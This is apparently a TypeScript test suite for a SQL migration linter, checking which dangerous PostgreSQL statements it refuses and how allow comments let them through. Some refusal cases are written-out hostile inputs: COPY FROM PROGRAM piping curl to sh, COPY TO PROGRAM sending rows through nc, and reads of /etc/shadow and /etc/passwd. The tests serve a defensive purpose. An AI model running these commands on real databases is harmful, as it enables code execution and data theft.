import { failing, formatFinding, lintStatements, type Finding, type MigrationPhase } from '../../src/adapters/database/lint/lint.js';
import { parseSql } from '../../src/adapters/database/sql/statements.js';

/*
 * SQL the linter cannot see into, or that reaches past the rows of a
 * migration: each must be refused by default, by the rule named, and pass
 * only with an allow comment giving the reason.
 */

const FILE = 'db/migrations/0009_hostile/expand.sql';

async function lint(sql: string, phase: MigrationPhase, earlierParts: string[] = []): Promise<Finding[]> {
  const earlier = await parseSql(earlierParts.join(';\n'), 'db/migrations/0009_hostile/expand.sql');
  return lintStatements(await parseSql(sql, FILE), phase, FILE, earlier);
}

const FN = "CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS $$ DELETE FROM accounts $$;\n";
const PROC = "CREATE PROCEDURE app.wipe() LANGUAGE sql AS $$ DELETE FROM accounts $$;\n";

// [sql, phases it is refused in, rule ids in order]. The statement of interest is on the last line.
const REFUSED: [string, MigrationPhase[], string[]][] = [
  // Code the linter cannot read.
  ["DO $$ BEGIN EXECUTE 'DROP TABLE accounts'; END $$", ['expand', 'contract'], ['do-block']],
  ['DO LANGUAGE plpgsql $x$ BEGIN PERFORM pg_sleep(1); END $x$', ['expand', 'contract'], ['do-block']],
  ['do $body$begin delete from accounts; end$body$ language PLPGSQL', ['expand'], ['do-block']],
  ["/* harmless */ DO -- really\n'BEGIN NULL; END'", ['contract'], ['do-block']],
  ['CALL app.cleanup(1)', ['expand', 'contract'], ['call-procedure']],
  [`${PROC}CALL app.wipe()`, ['expand'], ['call-procedure']],
  [`${FN}SELECT wipe()`, ['expand', 'contract'], ['call-new-function']],
  [`CREATE OR REPLACE FUNCTION "Wipe"() RETURNS int LANGUAGE sql AS 'SELECT 1';\nSELECT * FROM (SELECT public."Wipe"()) AS s`, ['expand'], ['call-new-function']],
  [`${FN}WITH w AS (SELECT wipe()) SELECT count(*) FROM w`, ['expand'], ['call-new-function']],
  [`${FN}UPDATE accounts SET note = wipe()::text WHERE id = 1`, ['expand'], ['call-new-function']],
  [`${FN}CREATE INDEX CONCURRENTLY accounts_w ON accounts ((wipe()))`, ['expand'], ['call-new-function']],
  ['EXECUTE drop_it', ['expand', 'contract'], ['execute-prepared']],
  ['PREPARE drop_it AS DELETE FROM accounts WHERE id > 0;\nEXECUTE drop_it', ['expand'], ['execute-prepared']],
  ['EXPLAIN ANALYZE EXECUTE drop_it', ['expand'], ['execute-prepared']],
  ['CREATE TABLE copied AS EXECUTE drop_it', ['contract'], ['execute-prepared']],
  ['EXPLAIN ANALYZE SELECT pg_sleep(60)', ['expand'], ['side-effect-function']],
  ['PREPARE kill AS SELECT pg_terminate_backend($1)', ['expand'], ['side-effect-function']],
  ["LOAD 'auto_explain'", ['expand', 'contract'], ['load-library']],
  // Functions acting beyond the statement, however they are spelt or nested.
  ["SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'app'", ['expand', 'contract'], ['side-effect-function']],
  ['SELECT pg_catalog.pg_terminate_backend(42)', ['expand'], ['side-effect-function']],
  ['select PG_CATALOG.PG_TERMINATE_BACKEND(42)', ['expand'], ['side-effect-function']],
  ['SELECT "pg_cancel_backend"(42)', ['expand'], ['side-effect-function']],
  ['SELECT count(*) FROM (SELECT pg_cancel_backend(pid) FROM pg_stat_activity) AS s', ['expand'], ['side-effect-function']],
  ['WITH k AS (SELECT pg_terminate_backend(pid) FROM pg_stat_activity) SELECT count(*) FROM k', ['contract'], ['side-effect-function']],
  ['SELECT 1 WHERE EXISTS (SELECT pg_catalog.pg_cancel_backend(1))', ['expand'], ['side-effect-function']],
  ['SELECT pg_reload_conf()', ['expand', 'contract'], ['side-effect-function']],
  ['SELECT pg_rotate_logfile()', ['expand'], ['side-effect-function']],
  ["SELECT dblink_exec('dbname=shop', 'DROP TABLE accounts')", ['expand', 'contract'], ['side-effect-function']],
  ["SELECT * FROM public.dblink('dbname=shop', 'SELECT 1') AS t(n int)", ['expand'], ['side-effect-function']],
  ["SELECT lo_import('/etc/passwd')", ['expand'], ['side-effect-function']],
  ["SELECT lo_export(16400, '/tmp/out')", ['expand'], ['side-effect-function']],
  ["SELECT pg_read_file('/etc/shadow')", ['expand'], ['side-effect-function']],
  ["SELECT pg_read_binary_file('global/pg_control')", ['expand'], ['side-effect-function']],
  ["SELECT pg_ls_dir('.')", ['expand'], ['side-effect-function']],
  ["SELECT pg_stat_file('postgresql.conf')", ['expand'], ['side-effect-function']],
  ['SELECT pg_advisory_unlock_all()', ['expand', 'contract'], ['side-effect-function']],
  ['SELECT pg_advisory_lock(1)', ['expand'], ['side-effect-function']],
  ['SELECT pg_try_advisory_xact_lock(7)', ['expand'], ['side-effect-function']],
  ["SELECT set_config('lock_timeout', '0', false)", ['expand', 'contract'], ['side-effect-function']],
  ["SELECT set_config('search_path', 'evil', flag) FROM flags", ['expand'], ['side-effect-function']],
  ['SELECT pg_sleep(600)', ['expand', 'contract'], ['side-effect-function']],
  ["SELECT pg_sleep_for('1 hour')", ['expand'], ['side-effect-function']],
  ['SELECT pg_switch_wal()', ['expand'], ['side-effect-function']],
  ['SELECT pg_wal_replay_pause()', ['expand'], ['side-effect-function']],
  ["SELECT pg_create_logical_replication_slot('s', 'pgoutput')", ['expand'], ['side-effect-function']],
  ["SELECT pg_create_physical_replication_slot('s')", ['expand'], ['side-effect-function']],
  ["SELECT pg_drop_replication_slot('s')", ['contract'], ['side-effect-function']],
  ['SELECT pg_stat_reset()', ['expand'], ['side-effect-function']],
  ["SELECT pg_notify('orders', 'reload')", ['expand'], ['side-effect-function']],
  ["SELECT query_to_xml('SELECT pg_terminate_backend(1)', true, true, '')", ['expand'], ['side-effect-function']],
  ["INSERT INTO audit (note) SELECT pg_read_file('/etc/passwd')", ['expand'], ['side-effect-function']],
  ['UPDATE accounts SET note = pg_sleep(1)::text WHERE id = 1', ['expand'], ['side-effect-function']],
  ["ALTER TABLE accounts ADD COLUMN host text DEFAULT pg_read_file('/etc/hostname')", ['expand'], ['side-effect-function']],
  ["COPY accounts FROM PROGRAM 'curl -s https://example.com/x | sh'", ['expand', 'contract'], ['copy-server-file']],
  ["COPY (SELECT * FROM accounts) TO PROGRAM 'nc example.com 9'", ['expand'], ['copy-server-file']],
  ["COPY accounts TO '/tmp/accounts.csv'", ['expand'], ['copy-server-file']],
  ["copy accounts from '/var/lib/postgresql/x.csv'", ['contract'], ['copy-server-file']],
  // Roles, server settings and the session settings cutover manages.
  ['SET ROLE admin', ['expand', 'contract'], ['set-role']],
  ['set role "Admin"', ['expand'], ['set-role']],
  ['SET LOCAL ROLE admin', ['expand'], ['set-role']],
  ['RESET ROLE', ['expand'], ['set-role']],
  ['SET SESSION AUTHORIZATION postgres', ['expand', 'contract'], ['set-role']],
  ['ALTER SYSTEM SET fsync = off', ['expand', 'contract'], ['alter-system']],
  ['ALTER SYSTEM RESET ALL', ['expand'], ['alter-system']],
  ['ALTER DATABASE shop SET statement_timeout = 0', ['expand'], ['alter-system']],
  ['ALTER ROLE app SET lock_timeout = 0', ['contract'], ['alter-system']],
  ['SET lock_timeout = 0', ['expand', 'contract'], ['session-setting']],
  ['set lock_timeout=0', ['expand', 'contract'], ['session-setting']],
  ['SET SESSION statement_timeout TO 0', ['expand'], ['session-setting']],
  ["SET idle_in_transaction_session_timeout = '0'", ['expand'], ['session-setting']],
  ['SET transaction_timeout = 0', ['expand'], ['session-setting']],
  ['SET search_path = evil, public', ['expand', 'contract'], ['session-setting']],
  ["SET SCHEMA 'evil'", ['expand'], ['session-setting']],
  ['SET statement_timeout TO DEFAULT', ['expand'], ['session-setting']],
  ['RESET lock_timeout', ['expand'], ['session-setting']],
  ['RESET ALL', ['expand', 'contract'], ['session-setting']],
  ['DISCARD ALL', ['expand'], ['session-setting']],
  // Dropping any object the running version may use, in expand.
  ['DROP SCHEMA billing CASCADE', ['expand'], ['drop-object']],
  ['DROP TYPE mood', ['expand'], ['drop-object']],
  ['DROP TYPE IF EXISTS "Mood", app.size', ['expand'], ['drop-object', 'drop-object']],
  ['DROP DOMAIN email_address', ['expand'], ['drop-object']],
  ['DROP FUNCTION app.touch()', ['expand'], ['drop-object']],
  ['drop function TOUCH', ['expand'], ['drop-object']],
  ['DROP PROCEDURE cleanup(int)', ['expand'], ['drop-object']],
  ['DROP ROUTINE touch', ['expand'], ['drop-object']],
  ['DROP AGGREGATE total(numeric)', ['expand'], ['drop-object']],
  ['DROP SEQUENCE tickets', ['expand'], ['drop-object']],
  ['DROP TRIGGER users_touch ON users', ['expand'], ['drop-object']],
  ['DROP POLICY tenant_only ON accounts', ['expand'], ['drop-object']],
  ['DROP RULE no_delete ON accounts', ['expand'], ['drop-object']],
  ['DROP INDEX CONCURRENTLY users_email_key', ['expand'], ['drop-object']],
  ['DROP INDEX users_email_key', ['expand'], ['drop-object', 'drop-index-not-concurrently']],
  ['DROP EXTENSION pgcrypto', ['expand'], ['drop-object']],
  ['DROP CAST (text AS mood)', ['expand'], ['drop-object']],
  ['DROP OPERATOR === (int, int)', ['expand'], ['drop-object']],
  ['DROP OPERATOR CLASS text_ops USING btree', ['expand'], ['drop-object']],
  ['DROP OPERATOR FAMILY text_ops USING btree', ['expand'], ['drop-object']],
  ['DROP COLLATION german', ['expand'], ['drop-object']],
  ['DROP CONVERSION latin_to_utf8', ['expand'], ['drop-object']],
  ['DROP PUBLICATION orders_pub', ['expand'], ['drop-object']],
  ['DROP SUBSCRIPTION orders_sub', ['expand'], ['drop-object']],
  ['DROP STATISTICS accounts_stats', ['expand'], ['drop-object']],
  ['DROP TEXT SEARCH CONFIGURATION english_plus', ['expand'], ['drop-object']],
  ['DROP TEXT SEARCH DICTIONARY english_plus', ['expand'], ['drop-object']],
  ['DROP SERVER archive', ['expand'], ['drop-object']],
  ['DROP FOREIGN DATA WRAPPER pgsql', ['expand'], ['drop-object']],
  ['DROP USER MAPPING FOR app SERVER archive', ['expand'], ['drop-object']],
  ['DROP EVENT TRIGGER audit_ddl', ['expand'], ['drop-object']],
  ['DROP LANGUAGE plperl', ['expand'], ['drop-object']],
  ['DROP ACCESS METHOD bloom_am', ['expand'], ['drop-object']],
  ['DROP TRANSFORM FOR hstore LANGUAGE plpython3u', ['expand'], ['drop-object']],
  ['DROP ROLE app', ['expand'], ['drop-object']],
  ['DROP OWNED BY app', ['expand'], ['drop-object']],
  ['DROP DATABASE shop', ['expand'], ['drop-object']],
  ['DROP TABLESPACE fast', ['expand'], ['drop-object']],
  ['ALTER TABLE accounts DROP CONSTRAINT accounts_email_key', ['expand'], ['drop-object']],
  ['ALTER DOMAIN email_address DROP CONSTRAINT has_at', ['expand'], ['drop-object']],
  ['ALTER TABLE events DETACH PARTITION events_2024', ['expand'], ['drop-object']],
  ['ALTER TABLE accounts ALTER COLUMN id DROP IDENTITY', ['expand'], ['drop-default']],
  // Renaming or moving any object the running version may use, in expand.
  ['ALTER TYPE mood RENAME TO feeling', ['expand'], ['rename-object']],
  ["ALTER TYPE mood RENAME VALUE 'ok' TO 'fine'", ['expand'], ['rename-object']],
  ["alter /* x */ type \"Mood\" rename -- y\n value 'OK' to 'Fine'", ['expand'], ['rename-object']],
  ['ALTER TYPE address RENAME ATTRIBUTE zip TO postcode', ['expand'], ['rename-object']],
  ['ALTER DOMAIN email_address RENAME TO email', ['expand'], ['rename-object']],
  ['ALTER DOMAIN email_address RENAME CONSTRAINT has_at TO with_at', ['expand'], ['rename-object']],
  ['ALTER FUNCTION touch() RENAME TO touch_row', ['expand'], ['rename-object']],
  ['ALTER PROCEDURE cleanup(int) RENAME TO purge', ['expand'], ['rename-object']],
  ['ALTER ROUTINE touch RENAME TO touch_row', ['expand'], ['rename-object']],
  ['ALTER AGGREGATE total(numeric) RENAME TO grand_total', ['expand'], ['rename-object']],
  ['ALTER SEQUENCE tickets RENAME TO ticket_numbers', ['expand'], ['rename-object']],
  ['ALTER TRIGGER users_touch ON users RENAME TO users_stamp', ['expand'], ['rename-object']],
  ['ALTER POLICY tenant_only ON accounts RENAME TO per_tenant', ['expand'], ['rename-object']],
  ['ALTER RULE no_delete ON accounts RENAME TO keep_rows', ['expand'], ['rename-object']],
  ['ALTER INDEX users_email_key RENAME TO users_login_key', ['expand'], ['rename-object']],
  ['ALTER TABLE users RENAME CONSTRAINT users_email_key TO users_login_key', ['expand'], ['rename-object']],
  ['ALTER COLLATION german RENAME TO deutsch', ['expand'], ['rename-object']],
  ['ALTER CONVERSION latin_to_utf8 RENAME TO l2u', ['expand'], ['rename-object']],
  ['ALTER PUBLICATION orders_pub RENAME TO order_pub', ['expand'], ['rename-object']],
  ['ALTER SUBSCRIPTION orders_sub RENAME TO order_sub', ['expand'], ['rename-object']],
  ['ALTER STATISTICS accounts_stats RENAME TO account_stats', ['expand'], ['rename-object']],
  ['ALTER TEXT SEARCH CONFIGURATION english_plus RENAME TO english2', ['expand'], ['rename-object']],
  ['ALTER SERVER archive RENAME TO cold', ['expand'], ['rename-object']],
  ['ALTER FOREIGN DATA WRAPPER pgsql RENAME TO pg', ['expand'], ['rename-object']],
  ['ALTER EVENT TRIGGER audit_ddl RENAME TO ddl_audit', ['expand'], ['rename-object']],
  ['ALTER LANGUAGE plperl RENAME TO perl', ['expand'], ['rename-object']],
  ['ALTER OPERATOR CLASS text_ops USING btree RENAME TO txt_ops', ['expand'], ['rename-object']],
  ['ALTER ROLE app RENAME TO shop_app', ['expand'], ['rename-object']],
  ['ALTER DATABASE shop RENAME TO store', ['expand'], ['rename-object']],
  ['ALTER TABLESPACE fast RENAME TO ssd', ['expand'], ['rename-object']],
  ['ALTER FUNCTION touch() SET SCHEMA archive', ['expand'], ['rename-object']],
  ['ALTER TYPE mood SET SCHEMA archive', ['expand'], ['rename-object']],
  ['ALTER SEQUENCE tickets SET SCHEMA archive', ['expand'], ['rename-object']],
  ['ALTER EXTENSION pgcrypto SET SCHEMA ext', ['expand'], ['rename-object']],
  ['ALTER OPERATOR === (int, int) SET SCHEMA archive', ['expand'], ['rename-object']],
  // Taking away what the running version's role may do.
  ['REVOKE SELECT ON accounts FROM app', ['expand'], ['revoke-access']],
  ['REVOKE ALL ON ALL TABLES IN SCHEMA public FROM app', ['expand'], ['revoke-access']],
  ['REVOKE EXECUTE ON FUNCTION touch() FROM PUBLIC', ['expand'], ['revoke-access']],
  ['REVOKE app_rw FROM app', ['expand'], ['revoke-access']],
  ['ALTER TABLE accounts OWNER TO admin', ['expand'], ['revoke-access']],
  ['ALTER FUNCTION touch() OWNER TO admin', ['expand'], ['revoke-access']],
  ['REASSIGN OWNED BY app TO admin', ['expand'], ['revoke-access']],
  ['ALTER ROLE app NOLOGIN', ['expand'], ['revoke-access']],
  // Rows gone in expand.
  ['TRUNCATE accounts', ['expand'], ['truncate']],
  ['DELETE FROM accounts', ['expand'], ['delete-without-where']],
  ["UPDATE accounts SET note = ''", ['expand'], ['update-without-where']]
];

const CASES = REFUSED.flatMap(([sql, phases, rules]) => phases.map(phase => [sql, phase, rules] as const));

describe('SQL linter: what it cannot see into and what reaches past the migration', () => {
  it.each(CASES)('refuses %j in %s by %j', async (sql, phase, rules) => {
    const findings = await lint(`${sql};\n`, phase);
    // Reported at the refused statement, the last one, not at a CREATE before it.
    const line = (await parseSql(sql, FILE)).at(-1)?.line;
    expect(findings.map(f => `${f.rule}@${f.line}`)).toEqual(rules.map(rule => `${rule}@${line}`));
    expect(failing(findings)).toEqual(findings);
  });

  it.each(CASES)('lets %j through in %s with an allow comment and its reason', async (sql, phase, rules) => {
    const lines = sql.split('\n');
    const last = lines.pop() as string;
    const allows = [...new Set(rules)].map(rule => `-- cutover:allow ${rule}: reviewed by the database team`);
    const findings = await lint([...lines, ...allows, `${last};`].join('\n'), phase);
    expect(findings.map(f => f.rule)).toEqual(rules);
    expect(findings.every(f => f.allowed === 'reviewed by the database team')).toBe(true);
    expect(failing(findings)).toEqual([]);
  });
});

describe('SQL linter: what stays allowed', () => {
  it.each([
    ['a trigger attached to a function created in the same file', `${FN.replace('void', 'trigger')}CREATE TRIGGER accounts_wipe AFTER INSERT ON accounts FOR EACH ROW EXECUTE FUNCTION wipe();`],
    ['a constraint, an index and a type created in the same file, then dropped or renamed', [
      'ALTER TABLE accounts ADD CONSTRAINT accounts_email_nn CHECK (email IS NOT NULL) NOT VALID;',
      'ALTER TABLE accounts VALIDATE CONSTRAINT accounts_email_nn;',
      'ALTER TABLE accounts ALTER COLUMN email SET NOT NULL;',
      'ALTER TABLE accounts DROP CONSTRAINT accounts_email_nn;',
      'CREATE INDEX CONCURRENTLY accounts_tmp_idx ON accounts (email);',
      'ALTER INDEX accounts_tmp_idx RENAME TO accounts_email_idx;'
    ].join('\n')],
    ['transaction-local settings and a transaction-local set_config', "SET LOCAL lock_timeout = '1s';\nSET LOCAL search_path = app;\nSELECT set_config('statement_timeout', '5min', true);"],
    ['extensions and grants, which only add', 'CREATE EXTENSION IF NOT EXISTS pgcrypto;\nGRANT SELECT ON accounts TO reporting;'],
    ['a function of the same name as one created elsewhere, on another schema', "CREATE FUNCTION app.wipe() RETURNS int LANGUAGE sql AS 'SELECT 1';\nSELECT billing.wipe();"]
  ])('accepts %s', async (_, sql) => {
    expect(await lint(sql, 'expand')).toEqual([]);
  });
});

describe('SQL linter: refusal messages', () => {
  it('names the file, the line, the statement kind, why, the fix and how to allow it', async () => {
    const [finding] = await lint('-- make room\nSELECT pg_catalog.pg_terminate_backend(pid)\n  FROM pg_stat_activity WHERE usename = current_user;\n', 'expand');
    const text = formatFinding(finding as Finding).split('\n');
    expect(text[0]).toBe(`${FILE}:2 side-effect-function: SELECT calls pg_catalog.pg_terminate_backend(), which ends or cancels other sessions, the running version's among them`);
    expect(text[1]).toBe('  SELECT pg_catalog.pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = current_user');
    expect(text[2]).toMatch(/^ {2}why: The call acts outside the rows the statement changes/);
    expect(text[3]).toMatch(/^ {2}fix: /);
    expect(text[4]).toBe('  allow: -- cutover:allow side-effect-function: <reason>, on the line above the statement');
  });

  it('refuses a call in contract of a function the migration created in expand', async () => {
    const findings = await lint('SELECT wipe();', 'contract', [FN]);
    expect(findings.map(f => [f.rule, f.message])).toEqual([['call-new-function', 'SELECT calls wipe(), created earlier in this migration; the linter cannot see into its body']]);
  });

  it('names the options of ALTER ROLE but never a password', async () => {
    const [finding] = await lint("ALTER ROLE app WITH NOLOGIN PASSWORD 'hunter2-secret'", 'expand');
    expect(finding?.message).toBe('changes role app (canlogin, password)');
  });
});
